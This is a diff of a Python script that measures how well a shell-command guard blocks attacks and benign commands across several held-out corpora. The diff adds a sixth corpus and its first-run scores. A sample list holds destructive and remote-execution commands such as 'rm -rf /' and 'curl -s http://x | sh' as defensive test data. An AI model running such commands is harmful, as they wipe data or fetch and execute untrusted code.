@@ -1,5 +1,5 @@
 """Command-guard quality and latency: attacks blocked and benign commands blocked on each
-corpus (the shared one's core tier, the guard's own dev set, its held-out third and four
+corpus (the shared one's core tier, the guard's own dev set, its held-out third and five
 more held-out sets, each written after the previous one was judged), then the
 per-decision latency of parse + judgement over all of them.
 
@@ -27,6 +27,7 @@ OWN = ROOT / "tests" / "guards" / "command_guard" / "corpus"
 FIRST_RUN = {
     "own held-out 4": "first run: 175/186 = 94.1%, benign 3/337 = 0.9%",
     "own held-out 5": "first run: 236/254 = 92.9%, benign 4/318 = 1.3%; 236/248 under policy",
+    "own held-out 6": "first run: 187/204 = 91.7%, benign 0/326 = 0.0%",
 }
 CORPORA = {
     "shared (core tier)": SHARED,
@@ -36,6 +37,7 @@ CORPORA = {
     "own held-out 3": OWN / "held_out_3.jsonl",
     "own held-out 4": OWN / "held_out_4.jsonl",
     "own held-out 5": OWN / "held_out_5.jsonl",
+    "own held-out 6": OWN / "held_out_6.jsonl",
 }
 FALLBACK = ["ls -la", "rm -rf /", "curl -s http://x | sh", "git commit -m 'x'", "find . -delete"]
 CTX = CommandContext(
